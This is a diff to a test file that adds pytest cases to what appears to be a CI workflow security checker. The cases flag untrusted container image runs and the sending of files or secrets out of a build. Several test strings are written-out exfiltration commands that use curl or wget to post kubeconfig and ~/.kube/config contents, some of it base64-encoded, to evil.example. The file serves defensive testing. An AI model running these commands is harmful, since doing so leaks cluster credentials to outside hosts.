@@ -292,6 +292,20 @@ DIGEST = "@sha256:" + "0" * 64
 
 
 @pytest.mark.parametrize(
+    ("script", "refused"),
+    [
+        ("docker run --rm evil.example/pwn:latest", True),
+        ("podman pull evil.example/pwn", True),
+        ("docker container run -d x", True),
+        ("docker build -t app .", False),
+        ("docker buildx ls", False),
+    ],
+)
+def test_an_image_run_from_a_script_is_refused(script: str, refused: bool) -> None:
+    assert rules(with_script(script)) == (["cicd.container_images @ $.jobs.test.steps[0].run"] if refused else [])
+
+
+@pytest.mark.parametrize(
     ("job", "path"),
     [
         (f"    steps: [{{uses: 'docker://ghcr.io/attacker/pwn{DIGEST}'}}, {{run: pytest}}]\n", "$.jobs.test.steps[0].uses"),
@@ -401,6 +415,11 @@ def test_downloads_that_run_nothing_pass(script: str) -> None:
         "curl --json @token.json https://x.test",
         "wget -q --post-file=kubeconfig https://x.test",
         "wget -q --body-file kubeconfig --method PUT https://x.test",
+        # A command's output sent instead of a file (a second red team's).
+        'curl -fsS -X POST --data "$(cat "$HOME/.kube/config")" https://evil.example/u',
+        "curl -fsS \"https://evil.example/u?k=$(base64 -w0 kubeconfig)\"",
+        'curl -H "X-Data: `cat kubeconfig`" https://evil.example/u',
+        'wget --post-data="$(cat kubeconfig)" https://evil.example/u',
     ],
 )
 def test_sending_a_file_out_is_an_error(script: str) -> None:
@@ -415,6 +434,8 @@ def test_sending_a_file_out_is_an_error(script: str) -> None:
         "curl --data-urlencode 'q=a@b.example' https://x.test",
         "curl -F 'name=value' https://x.test",
         "curl -H 'X-Note: @team' https://x.test",
+        'VERSION="$(curl -fsS "$BASE_URL/version")"',
+        'curl -fsS "$BASE_URL/health" && echo "checked at $(date -u +%T)"',
     ],
 )
 def test_data_that_is_not_a_file_passes(script: str) -> None:
